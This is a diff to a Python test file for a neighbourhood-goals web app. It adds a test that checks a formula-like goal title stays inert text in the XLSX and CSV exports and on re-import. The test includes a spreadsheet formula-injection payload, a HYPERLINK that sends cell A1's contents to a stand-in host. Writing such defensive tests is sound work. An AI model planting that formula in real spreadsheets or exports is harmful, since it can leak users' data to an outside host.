@@ -9,11 +9,13 @@ import shutil
 from collections.abc import Iterator
 from pathlib import Path
 
+import pandas as pd
 import pytest
 import yaml
 from fastapi.testclient import TestClient
 from httpx import Response
 
+from wijkradar.goals import import_goals
 from wijkradar.warehouse import Warehouse
 from wijkradar.web.app import create_app
 
@@ -188,7 +190,7 @@ def test_goals_survive_a_restart_of_the_server(db: Path) -> None:
     with TestClient(create_app(db, editable=True)) as first:
         assert _goal(first, title="Blijft bestaan").status_code == 303
     with Warehouse.open(db, read_only=True) as wh:
-        assert wh.rows("goals")["title"].tolist() == ["Blijft bestaan"]
+        assert pd.DataFrame(wh.goals())["title"].tolist() == ["Blijft bestaan"]
     with TestClient(create_app(db)) as again:
         assert "Blijft bestaan" in again.get(PAGE).text
 
@@ -237,3 +239,22 @@ def test_goal_can_be_edited_through_the_prefilled_form(client: TestClient) -> No
     assert goals[0]["area_codes"] == THREE[:2] and goals[0]["target_value"] == 44.5
     assert goals[0]["target_year"] == 2028 and goals[0]["area_name"] == "Wijkteam Stad (klein)"
     assert client.get(PAGE, params={"bewerk": 999}).status_code == 404
+
+
+def test_a_title_like_a_formula_stays_text_in_every_export(
+    client: TestClient, db: Path, tmp_path: Path
+) -> None:
+    import openpyxl
+
+    title = '=HYPERLINK("http://example.invalid/?d="&A1,"klik")'
+    assert _goal(client, title=title).status_code == 303
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{PAGE}.xlsx").content))["doelen"]
+    cell = next(c for c in sheet[2] if c.value == title)
+    assert cell.data_type == "s"  # a text cell: Excel shows the text and runs nothing
+    rows = list(csv.DictReader(io.StringIO(client.get(f"{PAGE}.csv").text)))
+    assert rows and all(r["titel"] == "'" + title for r in rows)
+    exported = tmp_path / "plan.xlsx"
+    exported.write_bytes(client.get(f"{PAGE}.xlsx").content)
+    with Warehouse.open(db) as wh:  # the text cell reads back as the same title
+        assert import_goals(wh, "GM0034", exported) == {"goals": 1, "interventions": 0}
+        assert [g["title"] for g in wh.goals("GM0034")] == [title]
